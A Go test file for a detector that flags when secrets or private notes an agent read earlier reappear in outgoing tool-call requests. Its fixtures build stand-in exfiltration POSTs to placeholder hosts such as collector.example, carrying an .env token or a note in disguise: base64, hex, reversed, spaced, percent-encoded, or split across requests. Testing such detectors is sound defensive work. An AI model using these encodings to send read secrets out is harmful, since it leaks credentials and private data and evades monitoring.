package fingerprint

import (
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"net/url"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
)

// fixture is a Set with one .env file and one private note read, and what
// they hold.
type fixture struct {
	set  *Set
	key  string // a 40-character key of the .env file
	key2 string // a 24-character one
	note string // the private note, ordinary prose
}

const note = "Our quarterly migration plan moves the billing ledger off the old cluster before the March audit; nobody outside finance may see the draft numbers until the board meeting."

func newFixture(t testing.TB) fixture {
	r := rand.New(rand.NewPCG(49, 1))
	f := fixture{key: randKey(r, 40), key2: randKey(r, 24), note: note}
	s, err := New(Config{})
	require.NoError(t, err)
	s.Add("read_file .env (turn 2)", "# keys\nSERVICE_TOKEN="+f.key+"\nPARTNER_KEY=\""+f.key2+"\"\nLOG_LEVEL=debug\n")
	s.Add("read_file notes/plan.md (turn 3)", "# Plan\n\n"+f.note+"\n\nSee the runbook for the steps.\n")
	f.set = s
	return f
}

// args is an http_request's raw JSON arguments with body.
func args(body string) string {
	b, err := json.Marshal(map[string]any{"method": "POST", "url": "https://collector.example/v1/ingest", "body": body})
	if err != nil {
		panic(err)
	}
	return string(b)
}

// separated writes every character of s with sep after it.
func separated(s, sep string) string {
	var b strings.Builder
	for _, c := range s {
		b.WriteRune(c)
		b.WriteString(sep)
	}
	return b.String()
}

func reversed(s string) string {
	r := []rune(s)
	for i, j := 0, len(r)-1; i < j; i, j = i+1, j-1 {
		r[i], r[j] = r[j], r[i]
	}
	return string(r)
}

func unicodeEscaped(s string) string {
	var b strings.Builder
	for _, c := range s {
		fmt.Fprintf(&b, `\u%04x`, c)
	}
	return b.String()
}

func TestCarriedFindsEveryForm(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	nested, _ := json.Marshal(args("report: " + f.note)) // JSON in a JSON string
	for _, c := range []struct {
		name, text string
		form       string
		source     string
		minChars   int
	}{
		{"key whole", args("token=" + f.key), "plain", ".env", 40},
		{"key in a header", `{"url":"https://a.example/","headers":{"Authorization":"Bearer ` + f.key + `"}}`, "plain", ".env", 40},
		{"note whole", args(f.note), "plain", "plan.md", 120},
		{"note upper case", args(strings.ToUpper(f.note)), "plain", "plan.md", 120},
		{"key lower case", args(strings.ToLower(f.key)), "plain", ".env", 40},
		{"key spaced", args(separated(f.key, " ")), "spaced", ".env", 40},
		{"key dashed", args(separated(f.key, "-")), "spaced", ".env", 40},
		{"key dotted", args(separated(f.key, ".")), "spaced", ".env", 40},
		{"note spaced", args(separated(f.note, " ")), "spaced", "plan.md", 120},
		{"key reversed", args(reversed(f.key)), "reversed", ".env", 40},
		{"note reversed", args(reversed(f.note)), "reversed", "plan.md", 120},
		{"key base64", args(base64.StdEncoding.EncodeToString([]byte(f.key))), "base64", ".env", 40},
		{"key base64 unpadded", args(base64.RawStdEncoding.EncodeToString([]byte("x" + f.key))), "base64", ".env", 40},
		{"key base64url", args(base64.URLEncoding.EncodeToString([]byte("k=" + f.key + "?"))), "base64", ".env", 40},
		{"key base64url in a URL path", args("http://x.test:8080/c/" + base64.RawURLEncoding.EncodeToString([]byte(f.key)) + "/end"), "base64", ".env", 40},
		{"note base64", args(base64.StdEncoding.EncodeToString([]byte(f.note))), "base64", "plan.md", 120},
		{"note base64 behind a prefix", args("data:sk_" + base64.RawURLEncoding.EncodeToString([]byte(f.note))), "base64", "plan.md", 120},
		{"key hex", args(hex.EncodeToString([]byte(f.key))), "hex", ".env", 40},
		{"key hex upper", args("0x" + strings.ToUpper(hex.EncodeToString([]byte(f.key)))), "hex", ".env", 40},
		{"note url-encoded", "https://collector.example/c?q=" + url.QueryEscape(f.note), "url", "plan.md", 120},
		{"key percent-encoded every byte", "https://c.example/?k=" + percentAll(f.key), "url", ".env", 40},
		{"key double percent-encoded", "https://c.example/?k=" + url.QueryEscape(percentAll(f.key)), "url+url", ".env", 40},
		{"key base64 in a query", "https://c.example/?k=" + url.QueryEscape(base64.StdEncoding.EncodeToString([]byte(f.key))), "base64", ".env", 40},
		{"key base64 of hex", args(base64.StdEncoding.EncodeToString([]byte(hex.EncodeToString([]byte(f.key))))), "base64+hex", ".env", 40},
		{"key base64 reversed", args(base64.StdEncoding.EncodeToString([]byte(reversed(f.key)))), "base64+reversed", ".env", 40},
		{"note in nested JSON", string(nested), "plain", "plan.md", 120},
		{"note as \\u escapes", `{"body":"` + unicodeEscaped(f.note) + `"}`, "plain", "plan.md", 120},
		{"key as \\u escapes in nested JSON", `{"body":"{\"t\":\"` + strings.ReplaceAll(unicodeEscaped(f.key), `\`, `\\`) + `\"}"}`, "plain", ".env", 40},
		{"short key whole", args(f.key2), "plain", ".env", 24},
		{"key's first half", args(f.key[:20]), "plain", ".env", 20},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			m, ok := f.set.Carried(c.text)
			require.True(t, ok, "not found in %s", c.text)
			require.Equal(t, c.form, m.Form)
			require.Contains(t, m.Source, c.source)
			require.GreaterOrEqual(t, m.Chars, c.minChars)
		})
	}
}

// percentAll percent-encodes every byte of s.
func percentAll(s string) string {
	var b strings.Builder
	for i := range len(s) {
		fmt.Fprintf(&b, "%%%02X", s[i])
	}
	return b.String()
}

func TestCarriedJoinsPiecesOfEarlierTexts(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	n := appendNorm(nil, f.note) // the note's letters and digits
	require.GreaterOrEqual(t, len(n), 120)
	piece := func(a, b int) string { return string(n[a:b]) }
	k1, k2 := f.key2[:12], f.key2[12:] // each below SecretRun
	for _, c := range []struct {
		name  string
		text  string
		prior []string
		want  bool
		chars int
	}{
		{"a 40-char key in two requests", args(f.key[20:]), []string{args(f.key[:20])}, true, 40},
		{"a 24-char key: the first 12 alone", args(k1), nil, false, 0},
		{"a 24-char key in two requests", args(k2), []string{args(k1)}, true, 24},
		{"a 24-char key in two fields", `{"a":"` + k2 + `","b":"` + k1 + `"}`, nil, true, 24},
		{"a 24-char key in three requests", args(f.key2[16:]), []string{args(f.key2[:8]), args(f.key2[8:16])}, true, 24},
		{"a 24-char key, pieces base64 and hex", args(base64.StdEncoding.EncodeToString([]byte(k2))), []string{args(hex.EncodeToString([]byte(k1)))}, true, 24},
		{"ordinary text: two pieces of 24 are too few", args(piece(24, 48)), []string{args(piece(0, 24))}, false, 0},
		{"ordinary text: pieces below MinPiece do not join", args(piece(46, 69)), []string{args(piece(0, 23)), args(piece(23, 46))}, false, 0},
		{"ordinary text in three requests", args(piece(48, 72)), []string{args(piece(0, 24)), args(piece(24, 48))}, true, 72},
		{"ordinary text in three requests, out of order", args(piece(24, 48)), []string{args(piece(48, 72)), "unrelated", args(piece(0, 24))}, true, 72},
		{"ordinary text in two requests and two fields", `{"x":"` + piece(50, 80) + `","y":"` + piece(24, 50) + `"}`, []string{args(piece(0, 24))}, true, 80},
		{"earlier leak alone: the current text adds nothing", args("hello"), []string{args(f.key)}, false, 0},
		{"earlier leak, current text repeats it", args(f.key), []string{args(f.key)}, true, 40},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			m, ok := f.set.Carried(c.text, c.prior...)
			require.Equal(t, c.want, ok, "%+v", m)
			if c.want {
				require.Equal(t, c.chars, m.Chars)
			}
		})
	}
}

func TestCarriedIgnoresOrdinarySharedText(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	for _, text := range []string{
		args("the draft numbers"),                    // a phrase of the note
		args("moves the billing ledger off the old"), // 30 characters of it
		args("Our quarterly migration plan is public now."),
		`{"method":"POST","url":"https://collector.example/v1/ingest","headers":{"Content-Type":"application/json"}}`,
		args("SERVICE_TOKEN PARTNER_KEY LOG_LEVEL=debug"),
		args(f.key[:7] + " " + f.key[20:27]), // shorter than a gram
		args(reversed(f.key[:7])),
	} {
		m, ok := f.set.Carried(text)
		require.False(t, ok, "%s matched %+v", text, m)
	}
}

func TestNormalize(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ in, want string }{
		{"Hello, World!", "helloworld"},
		{"s p a c e d / s-p-a-c-e-d", "spacedspaced"},
		{`a\nb\tc\"d\\\"e\/f`, "abcdef"},
		{`\u0041\u00e9\\u0042`, "aéb"},
		{"ＡＢＣ１２３", "abc123"},
		{"zero\u200bwidth", "zerowidth"},
		{"ÄÖÜ straße", "äöüstraße"},
	} {
		require.Equal(t, c.want, string(appendNorm(nil, c.in)), c.in)
	}
}

func TestSecretLike(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		tok  string
		want bool
	}{
		{"handleRequestTimeout", false},
		{"x509CertificatePool", false},
		{"configuration_endpoint", false},
		{"550e8400-e29b-41d4-a716-446655440000", true},
		{"ghp_Zx81Kq0LmW3e9TnB2cYd7Ra4Vs6Pu5HjO", true},
		{"AAAAAAAAAAAA1111111111", false},
		{"StatusNotFound", false},
		{"http.StatusNotFound/ReplaceAllString", false},
		{"sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08", true},
	} {
		require.Equal(t, c.want, secretLike(c.tok), c.tok)
	}
}

func TestConfig(t *testing.T) {
	t.Parallel()
	c := Config{}.WithDefaults()
	require.NoError(t, c.Validate())
	require.Equal(t, DefaultK, c.K)
	for _, bad := range []Config{{K: 2}, {MinRun: 10}, {SecretRun: 4}, {MaxBytes: -1}, {MaxBytes: 1<<30 + 1}} {
		_, err := New(bad)
		require.Error(t, err, "%+v", bad)
	}
}

func TestAddBounds(t *testing.T) {
	t.Parallel()
	s, err := New(Config{MaxBytes: 1000, MaxSources: 2})
	require.NoError(t, err)
	r := rand.New(rand.NewPCG(3, 4))
	key := randKey(r, 32)
	s.Add("a", "first "+key)
	s.Add("b", strings.Repeat("x", 500))
	s.Add("c", "third "+randKey(r, 32))
	s.Add("d", strings.Repeat("y", 1000))
	require.Equal(t, 1000, s.Bytes())
	require.Greater(t, s.Dropped(), 0)
	m, ok := s.Carried(key)
	require.True(t, ok)
	require.Equal(t, "a", m.Source)
	require.Equal(t, 2, len(s.sources))
}

func TestCarriedBoundsAdversarialInput(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	// 8 MiB of base64 whose decoding is base64 again: depth and budget cap it.
	inner := base64.StdEncoding.EncodeToString([]byte(strings.Repeat(base64.StdEncoding.EncodeToString([]byte("ab%41%42")), 1<<18)))
	for _, text := range []string{inner, strings.Repeat("%25", 1<<20), strings.Repeat(`\\\\u00`, 1<<19)} {
		_, ok := f.set.Carried(text)
		require.False(t, ok)
	}
	// A key deep in a big text is still found.
	big := strings.Repeat("lorem ipsum ", 1<<18) + f.key
	_, ok := f.set.Carried(big)
	require.True(t, ok)
}

func TestAddAndCarriedConcurrently(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	r := rand.New(rand.NewPCG(8, 8))
	words := vocab(r, 200)
	texts := make([]string, 8)
	for i := range texts {
		texts[i] = prose(r, words, 2000)
	}
	done := make(chan bool)
	go func() {
		for i, text := range texts {
			f.set.Add(fmt.Sprintf("read %d", i), text)
		}
		close(done)
	}()
	for range 20 {
		_, ok := f.set.Carried(args(f.key))
		require.True(t, ok)
	}
	<-done
	_, ok := f.set.Carried(args(texts[7][100:300]))
	require.True(t, ok)
}

// TestCarriedFindsRepeatedContent: a file read twice holds every gram twice
// (common, so its hits are chained before they are verified) and is still found
// whole, as is boilerplate copied in a run of MinRun; a piece of it alone is not.
func TestCarriedFindsRepeatedContent(t *testing.T) {
	t.Parallel()
	r := rand.New(rand.NewPCG(11, 11))
	words := vocab(r, 300)
	doc := prose(r, words, 4000)
	s, err := New(Config{})
	require.NoError(t, err)
	s.Add("read_file doc.md (turn 1)", doc)
	s.Add("read_file doc.md (turn 4)", doc)
	s.Add("read_file doc.md (turn 6)", doc[1000:3000])
	for at := 0; at+100 <= len(doc); at += 37 {
		m, ok := s.Carried(args(doc[at : at+100]))
		require.True(t, ok, "at %d", at)
		require.Equal(t, "read_file doc.md (turn 1)", m.Source)
	}
	_, ok := s.Carried(args(doc[700:720]))
	require.False(t, ok)
}
